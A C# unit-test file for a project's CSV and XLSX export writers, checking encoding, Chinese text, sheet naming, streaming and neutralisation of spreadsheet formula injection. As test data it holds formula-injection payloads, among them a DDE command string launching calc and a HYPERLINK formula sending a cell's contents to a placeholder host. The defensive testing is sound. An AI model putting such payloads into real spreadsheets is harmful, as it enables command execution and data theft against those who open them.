using CareGrid.Grains.Exports;
using DocumentFormat.OpenXml.Spreadsheet;
using FsCheck;
using FsCheck.Fluent;
using FsCheck.Xunit;

namespace CareGrid.Tests.Exports;

/// <summary>
/// The CSV and XLSX writers of exports (docs/statistics.md "Exports"): UTF-8 with BOM and CRLF, Chinese intact, numbers as
/// numbers, one sheet per table with valid unique names, and no cell a spreadsheet would evaluate as a formula.
/// </summary>
[Trait("tier", "domain")]
public sealed class ExportWritersShould
{
    private static readonly string[] Risky = ["=1+1", "+86 138", "-2+3", "@SUM(A1)", "\tTab", "\rCR", "=HYPERLINK(\"http://x\")", "-"];

    private static ExportTable Table(string key, string title, params IReadOnlyList<ExportCell>[] rows) =>
        ExportTable.Of(key, title, ["单位 Unit", "=count", "数量"], rows);

    private static ExportTable Hostile() => Table("hostile", "=cmd|' /C calc'!A0",
        [.. Risky.Select(ExportCell.Of)],
        [ExportCell.Of("七年级（1）班"), ExportCell.Of(-3m), ExportCell.Of(12.5m), ExportCell.Suppressed]);

    [Fact]
    public async Task Write_CSV_as_UTF8_with_BOM_and_CRLF_and_keep_Chinese()
    {
        var bytes = await ExportFiles.WriteAsync(ExportFormat.Csv, ExportLabels.Chinese,
            Table("by-unit", "按单位统计的个案", [ExportCell.Of("七年级（1）班"), ExportCell.Of(7m)]));

        Assert.Equal(ExportFiles.Bom, bytes[..3]);
        var text = new System.Text.UTF8Encoding(false, true).GetString(bytes[3..]);
        Assert.Equal("按单位统计的个案\r\n单位 Unit,'=count,数量\r\n七年级（1）班,7\r\n", text);
    }

    [Fact]
    public async Task Start_an_empty_CSV_with_the_BOM()
    {
        var bytes = await ExportFiles.WriteAsync(ExportFormat.Csv, ExportLabels.English);
        Assert.Equal(ExportFiles.Bom, bytes);
    }

    [Fact]
    public async Task Neutralise_every_risky_CSV_text_cell_and_leave_numbers_alone()
    {
        var bytes = await ExportFiles.WriteAsync(ExportFormat.Csv, ExportLabels.English, Hostile(), Table("second", "Second", [ExportCell.Of(1m)]));
        var records = ExportFiles.CsvRecords(bytes);

        Assert.Equal("'=cmd|' /C calc'!A0", records[0][0]);
        Assert.Equal([.. Risky.Select(r => "'" + r)], records[2]);
        Assert.Equal(["七年级（1）班", "-3", "12.5", "suppressed"], records[3]);
        Assert.Equal([""], records[4]);
        Assert.Equal("Second", records[5][0]);
        Assert.DoesNotContain(records.SelectMany(r => r), ExportFiles.WouldBeFormula);
    }

    [Fact]
    public async Task Write_XLSX_with_numbers_as_numeric_cells_text_as_inline_strings_and_no_formula()
    {
        var bytes = await ExportFiles.WriteAsync(ExportFormat.Xlsx, ExportLabels.Chinese, Hostile());
        var sheet = Assert.Single(ExportFiles.XlsxSheets(bytes));

        Assert.Equal("=cmd|' _C calc'!A0", sheet.Name);
        Assert.Equal("'=cmd|' /C calc'!A0", ExportFiles.Text(sheet.Rows[0][0]));
        Assert.Equal([.. Risky.Select(r => ExportFiles.XmlLineEnds("'" + r))], sheet.Rows[2].Select(ExportFiles.Text));
        var mixed = sheet.Rows[3];
        Assert.Equal(["七年级（1）班", "-3", "12.5", "已隐藏"], mixed.Select(ExportFiles.Text));
        Assert.Equal([CellValues.InlineString, CellValues.Number, CellValues.Number, CellValues.InlineString], mixed.Select(c => c.DataType!.Value));
        Assert.Equal(["A4", "B4", "C4", "D4"], mixed.Select(c => c.CellReference!.Value));
        var cells = sheet.Rows.SelectMany(r => r).ToList();
        Assert.All(cells, c => Assert.Null(c.CellFormula));
        Assert.DoesNotContain(cells.Where(c => c.DataType?.Value != CellValues.Number).Select(ExportFiles.Text), ExportFiles.WouldBeFormula);
    }

    [Fact]
    public async Task Write_one_sheet_per_table_with_unique_names_of_at_most_31_characters()
    {
        var title = "各单位各风险等级的在办个案数量及其处理时限情况统计表（按自然周汇总）";
        var bytes = await ExportFiles.WriteAsync(ExportFormat.Xlsx, ExportLabels.Chinese,
            Table("a", title, [ExportCell.Of(1m)]), Table("b", title, [ExportCell.Of(2m)]), Table("c", "History", [ExportCell.Of(3m)]),
            Table("d", "cases/by:unit?", [ExportCell.Of(4m)]));
        var sheets = ExportFiles.XlsxSheets(bytes);

        Assert.Equal(4, sheets.Count);
        Assert.All(sheets, s => Assert.InRange(s.Name.Length, 1, 31));
        Assert.Equal(4, sheets.Select(s => s.Name.ToUpperInvariant()).Distinct().Count());
        Assert.Equal(title[..31], sheets[0].Name);
        Assert.Equal(title[..27] + " (2)", sheets[1].Name);
        Assert.Equal("cases_by_unit_", sheets[3].Name);
        Assert.Equal(title, ExportFiles.Text(sheets[1].Rows[0][0]));
        Assert.Equal("2", ExportFiles.Text(sheets[1].Rows[2][0]));
    }

    [Fact]
    public void Never_cut_a_sheet_name_inside_a_surrogate_pair()
    {
        var name = new WorksheetNames().Next(new string('a', 30) + "𠀀b");
        Assert.Equal(new string('a', 30), name);
    }

    [Fact]
    public async Task Stream_a_large_table_in_chunks_to_a_write_only_output()
    {
        var rows = Enumerable.Range(0, 10_000).Select(i => (IReadOnlyList<ExportCell>)[ExportCell.Of($"unit-{i}"), ExportCell.Of(i)]);
        foreach (var format in new[] { ExportFormat.Csv, ExportFormat.Xlsx })
        {
            var bytes = new MemoryStream();
            var output = new ExportFiles.WriteOnlyStream(bytes);
            await format.Writer().WriteAsync(new[] { ExportTable.Of("big", "Big", ["u", "n"], rows) }.ToAsyncEnumerable(), output, ExportLabels.English, default);

            Assert.True(output.Flushes >= 10_000 / ITableWriter.RowsPerChunk, $"{format}: {output.Flushes} flushes");
            var count = format == ExportFormat.Csv
                ? ExportFiles.CsvRecords(bytes.ToArray()).Count - 2
                : ExportFiles.XlsxSheets(bytes.ToArray())[0].Rows.Count - 2;
            Assert.Equal(10_000, count);
        }
    }

    [Theory]
    [InlineData("\uFE66HYPERLINK(\"http://x.example/?\"&A1,\"点击\")")] // ﹦ small equals sign (round 24 red team)
    [InlineData("\uFE62SUM(A1:A9)")] // ﹢ small plus sign
    [InlineData("\uFE63SUM(A1:A9)")] // ﹣ small hyphen-minus
    [InlineData("\uFE6Bcmd|' /C calc'!A0")] // ﹫ small commercial at
    [InlineData("\u2212SUM(A1:A9)")] // − minus sign
    [InlineData("\u207A1+1")] // ⁺ superscript plus (NFKC +)
    public async Task Neutralise_a_cell_that_starts_with_a_small_form_or_minus_sign_of_a_formula_trigger(string text)
    {
        var table = ExportTable.Of("t", "T", ["h"], [[ExportCell.Of(text)]]);

        var csv = ExportFiles.CsvRecords(await ExportFiles.WriteAsync(ExportFormat.Csv, ExportLabels.English, table));

        Assert.Equal("'" + text, csv[2][0]);
    }

    [Property(MaxTest = 200)]
    public Property Read_back_every_text_as_written_but_neutralised_in_both_formats()
    {
        var text = ArbMap.Default.GeneratorFor<string>().Where(s => s is not null && s.All(c => System.Xml.XmlConvert.IsXmlChar(c)));
        return Prop.ForAll(text.ToArbitrary(), s =>
        {
            var table = ExportTable.Of("t", "T", ["h"], [[ExportCell.Of(s)]]);
            var csv = ExportFiles.CsvRecords(ExportFiles.WriteAsync(ExportFormat.Csv, ExportLabels.English, table).GetAwaiter().GetResult());
            var xlsx = ExportFiles.XlsxSheets(ExportFiles.WriteAsync(ExportFormat.Xlsx, ExportLabels.English, table).GetAwaiter().GetResult());
            var expected = FormulaGuard.Neutralise(s);
            return (csv[2].Length == 1 && csv[2][0] == expected && ExportFiles.Text(xlsx[0].Rows[2][0]) == ExportFiles.XmlLineEnds(expected) && !ExportFiles.WouldBeFormula(expected))
                .Label($"'{Escape(s)}' -> csv '{Escape(csv[2][0])}', xlsx '{Escape(ExportFiles.Text(xlsx[0].Rows[2][0]))}'");
        });
    }

    private static string Escape(string s) => string.Concat(s.Select(c => c < ' ' || c > '~' ? $"\\u{(int)c:x4}" : c.ToString()));

    [Fact]
    public async Task Replace_characters_XML_cannot_carry_in_XLSX_text()
    {
        var bytes = await ExportFiles.WriteAsync(ExportFormat.Xlsx, ExportLabels.English, Table("x", "X", [ExportCell.Of("a\u0001b\uD800c𠀀")]));
        Assert.Equal("a\uFFFDb\uFFFDc𠀀", ExportFiles.Text(ExportFiles.XlsxSheets(bytes)[0].Rows[2][0]));
    }
}
